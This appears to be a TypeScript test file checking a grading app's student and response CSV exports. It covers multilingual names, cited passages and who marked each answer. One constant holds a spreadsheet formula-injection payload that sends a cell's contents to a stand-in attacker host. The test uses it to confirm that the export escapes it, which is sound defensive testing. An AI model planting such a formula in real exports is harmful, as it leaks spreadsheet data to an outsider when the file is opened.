import { parse } from "csv-parse/sync";
import { createTranslator } from "next-intl";
import { beforeEach, describe, expect, it } from "vitest";
import { responsesCsv, studentsCsv } from "@/lib/grading/export/csv";
import { getResponsesExport, getStudentsExport } from "@/lib/grading/exports";
import { markResponse } from "@/lib/grading/mark-response";
import { getReviewedAnswer } from "@/lib/grading/reviewed-answer";
import * as messages from "@/messages/en";
import { database } from "../../support/database";
import { makeClass } from "./class";

const t = createTranslator({ locale: "en", messages, namespace: "Exports" });
const parsed = (csv: string): Record<string, string>[] => parse(csv, { bom: true, columns: true });

const HOSTILE = '=HYPERLINK("http://evil.example?"&A1)';
const ESSAY = 'He said "no".\nThen:\t@SUM(1), =1+1; 他不给面子 🕊️';

let lesson: Awaited<ReturnType<typeof makeClass>>;
beforeEach(async () => {
  lesson = await makeClass({ dueAt: new Date(Date.now() - 3_600_000) });
});
const students = async () => studentsCsv(await getStudentsExport(lesson.teacher, lesson.assignmentId), t);
const responses = async () => responsesCsv(await getResponsesExport(lesson.teacher, lesson.assignmentId), t);

describe("a row per student", () => {
  it("has points as numbers, blanks where nothing is known, and everybody", async () => {
    await lesson.finish(await lesson.join("Әсем Қанатқызы"), { choice: "b" });
    await lesson.finish(await lesson.join("张伟 🐼"), { choice: "a", essay: ESSAY });
    await lesson.join(HOSTILE);
    const rows = parsed(await students());
    expect(rows.map((row) => Object.values(row).toSpliced(3, 1))).toEqual(
      expect.arrayContaining([
        ["Әсем Қанатқызы", "handed in late", "1", "yes", "", "2", "0", "0", "2", "8", "25", "0", "", ""],
        ["张伟 🐼", "handed in late", "1", "yes", "", "0", "0", "", "0", "8", "", "1", "", ""],
        [`'${HOSTILE}`, "not started", "", "", "", "", "", "", "", "", "", "", "", ""],
      ]),
    );
    expect(rows).toHaveLength(3);
    expect(rows[0]?.["Handed in"]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$|^$/);
  });
});

describe("a row per response", () => {
  it("has no quotation that a browser made up, and says that there was one", async () => {
    const student = await lesson.join();
    const attemptId = await lesson.finish(student, { essay: ESSAY });
    const made = { blockId: "b2", start: 0, end: 11, quote: "He meant no" };
    const where = { attemptId, itemVersionId: lesson.items.essay };
    const { id, answer } = await database.response.findFirstOrThrow({ where });
    const passages = [...(answer as { passages: object[] }).passages, made];
    await database.response.update({ where: { id }, data: { answer: { ...(answer as object), passages } } });
    const essay = parsed(await responses()).find((row) => row["Cited passages"]);
    expect(essay?.["Cited passages"]).toBe("“It was also a refusal.”\n(one quotation is not in the text)");
    const place = { ...where, assignmentId: lesson.assignmentId };
    const { current } = await getReviewedAnswer(lesson.teacher, place);
    expect(current).toMatchObject({ lost: 1, answer: { passages: [{ quote: "It was also a refusal." }] } });
  });

  it("has the answer in words, its quotations, and who marked it", async () => {
    const attemptId = await lesson.finish(await lesson.join(), { choice: "b", essay: ESSAY });
    await markResponse(lesson.assistant, {
      ...{ attemptId, itemVersionId: lesson.items.essay, levels: { claim: 1 }, baseScoreId: null },
      comment: "+1",
    });
    const [choice, essay] = parsed(await responses());
    expect(choice).toMatchObject({
      Question: "1",
      Answer: "A no",
      Points: "2",
      "Marked by": "automatically",
    });
    expect(essay).toMatchObject({
      Answer: ESSAY,
      "Cited passages": "“It was also a refusal.”",
      Points: "4",
      Maximum: "4",
      "Marked by": "by a person",
      Marker: lesson.assistant.name,
      Comment: "'+1",
      Late: "yes",
    });
  });

  it("has what was saved of an attempt in progress, without points", async () => {
    await lesson.begin(await lesson.join(), { choice: "b" });
    expect(parsed(await responses())).toMatchObject([
      { Answer: "A no", Points: "", "Handed in": "", Late: "" },
    ]);
  });
});
